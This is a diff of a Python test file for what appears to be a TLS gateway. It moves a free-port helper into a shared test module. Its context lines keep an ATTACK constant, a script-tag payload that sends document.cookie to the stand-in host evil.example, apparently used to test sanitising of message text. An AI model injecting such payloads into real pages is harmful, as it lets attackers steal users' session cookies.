@@ -7,7 +7,6 @@ from __future__ import annotations
 import asyncio
 import json
 import signal
-import socket
 import ssl
 import sys
 from collections.abc import AsyncIterator
@@ -22,6 +21,7 @@ from aiohttp import web
 
 from gateway.tls.certs import DevCerts, create_dev_certs
 from tests.helpers import serve_app
+from tests.ports import free_port
 
 pytestmark = pytest.mark.slow
 
@@ -30,11 +30,6 @@ ATTACK = "<script>document.location='http://evil.example/?c='+document.cookie</s
 MESSAGES = {"inbound": {"json": ["/text"]}, "outbound": {"json": ["/text", "/messages/*/text"]}}
 
 
-def free_port() -> int:
-    with socket.socket() as sock:
-        sock.bind(("127.0.0.1", 0))
-        port: int = sock.getsockname()[1]
-        return port
 
 
 class Chat:
